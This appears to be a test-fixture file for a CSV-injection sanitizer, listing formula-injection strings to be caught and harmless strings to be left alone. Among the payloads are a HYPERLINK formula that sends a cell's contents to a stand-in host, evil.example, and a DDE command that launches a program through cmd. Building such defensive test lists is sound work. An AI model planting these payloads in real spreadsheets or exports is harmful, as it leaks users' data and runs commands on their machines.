/** What makes spreadsheet programs calculate, call out or run programs (OWASP, CSV Injection; THREATS.md T25). */
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '＝', '＋', '－', '＠', '\0='];
const BODIES = [
  '1+1',
  'HYPERLINK("http://evil.example/?"&A1,"x")',
  "cmd|' /C calc'!A0",
  'SUM(A1:A9)',
];
const BEFORE = ['', ' ', '"', "'", ';', ',', '"";', ' "', '\u00a0'];
const INSIDE = ['a;', 'a,', 'a\t', 'a\n', 'a\r\n', 'a";', 'a","', 'a|'];

export const FORMULAS = [
  ...STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`)),
  ...BEFORE.flatMap((before) => ['=', '+', '-', '@'].map((start) => `${before}${start}1+1`)),
  ...INSIDE.flatMap((before) => ['=', '@', '-2+3+', '＝'].map((start) => `${before}${start}1+1`)),
  '\tx',
  '\rx',
  '\nx',
  '-',
  '=',
];

/** Texts that must come through untouched. */
export const HARMLESS = [
  'plain',
  'a - b',
  'see https://www.example.com/?a=b',
  'zoe@example.com',
  "it's",
  '"quoted"',
  'two\nlines',
  'two\r\nlines',
  'a;b,c\td|e',
  '1,5',
  ' padded ',
];
